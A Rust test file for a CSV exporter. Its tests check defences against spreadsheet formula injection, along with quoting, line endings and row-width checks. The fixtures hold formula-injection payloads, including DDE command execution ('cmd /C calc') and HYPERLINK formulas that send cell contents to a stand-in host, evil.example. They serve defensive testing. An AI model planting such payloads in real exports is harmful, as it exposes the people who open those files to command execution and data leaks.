//! The CSV tables written and parsed back with the `csv` reader, the way a spreadsheet
//! or a script reads a download.

use super::*;

/// The header and the rows of `bytes`, read by the `csv` crate's reader.
fn parse(bytes: &[u8]) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = ::csv::ReaderBuilder::new().from_reader(bytes);
    let header = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect();
    let rows = reader
        .records()
        .map(|record| record.unwrap().iter().map(str::to_string).collect())
        .collect();
    (header, rows)
}

#[test]
fn formula_cells_are_prefixed_with_an_apostrophe() {
    let attacks = [
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Clicca\")",
        "+39 06 1234567",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];
    let mut table = Table::new(["valore"]).unwrap();
    for attack in attacks {
        table.row([attack]).unwrap();
    }
    let (_, rows) = parse(&table.finish().unwrap());
    let read: Vec<&str> = rows.iter().map(|row| row[0].as_str()).collect();
    let expected: Vec<String> = attacks.iter().map(|a| format!("'{a}")).collect();
    assert_eq!(read, expected);
}

#[test]
fn a_formula_after_a_semicolon_stays_inside_its_cell_for_an_italian_spreadsheet() {
    let attack = "Rossi;=HYPERLINK(\"http://evil.example/\";\"Clicca\");x";
    let mut table = Table::new(["cognome", "nome"]).unwrap();
    table.row([attack, "Mario"]).unwrap();
    let bytes = table.finish().unwrap();
    // Read as a spreadsheet does whose list separator is `;`.
    let mut reader = ::csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .from_reader(bytes.as_slice());
    for record in reader.records() {
        let record = record.unwrap();
        assert!(
            record.iter().all(|cell| !cell.starts_with(FORMULA_STARTS)),
            "{record:?}"
        );
    }
    assert_eq!(parse(&bytes).1, [[attack, "Mario"]]);
}

#[test]
fn ordinary_cells_are_written_as_they_are() {
    for cell in [
        "Rossi",
        "1234",
        "mario@example.it",
        "a=b",
        " =spazio prima",
        "",
    ] {
        assert_eq!(neutralize(cell), cell);
    }
}

#[test]
fn separators_quotes_and_line_ends_are_quoted_and_read_back() {
    let row = [
        "Rossi, Mario",
        "Società \"La Pergola\" S.r.l.",
        "Via Roma 1\r\n00100 Roma",
        "riga\nsotto",
        "Ñúñez àèìòù €",
    ];
    let mut table = Table::new(["a", "b", "c", "d", "e"]).unwrap();
    table.row(row).unwrap();
    let bytes = table.finish().unwrap();
    let text = String::from_utf8(bytes.clone()).unwrap();
    assert!(text.contains("\"Rossi, Mario\""), "{text}");
    assert!(
        text.contains("\"Società \"\"La Pergola\"\" S.r.l.\""),
        "{text}"
    );
    let (header, rows) = parse(&bytes);
    assert_eq!(header, ["a", "b", "c", "d", "e"]);
    assert_eq!(rows, [row.map(str::to_string).to_vec()]);
}

#[test]
fn records_end_with_crlf_and_start_with_the_header() {
    let mut table = Table::new(["indirizzo", "stato"]).unwrap();
    table.row(["a@pec.example.it", "attiva"]).unwrap();
    table.row(["b@pec.example.it", "in attesa"]).unwrap();
    let text = String::from_utf8(table.finish().unwrap()).unwrap();
    assert_eq!(
        text,
        "\"indirizzo\",\"stato\"\r\n\"a@pec.example.it\",\"attiva\"\r\n\"b@pec.example.it\",\"in attesa\"\r\n"
    );
}

#[test]
fn an_empty_result_is_the_header_alone() {
    let table = Table::new(["indirizzo", "stato"]).unwrap();
    let (header, rows) = parse(&table.finish().unwrap());
    assert_eq!(header, ["indirizzo", "stato"]);
    assert!(rows.is_empty());
}

#[test]
fn a_row_of_another_width_is_refused() {
    let mut table = Table::new(["a", "b"]).unwrap();
    table.row(["1", "2"]).unwrap();
    let error = table.row(["1", "2", "3"]).unwrap_err();
    assert!(
        matches!(
            error,
            CsvError::Width {
                row: 2,
                found: 3,
                expected: 2
            }
        ),
        "{error:?}"
    );
}

#[test]
fn the_fuzz_property_holds_on_hostile_rows() {
    for text in [
        "",
        ",",
        "=1,+2,-3,@4",
        "\"=x\",\r\n=y",
        "a\u{0}b,\t",
        "'=gia",
    ] {
        fuzz_table(text);
    }
}
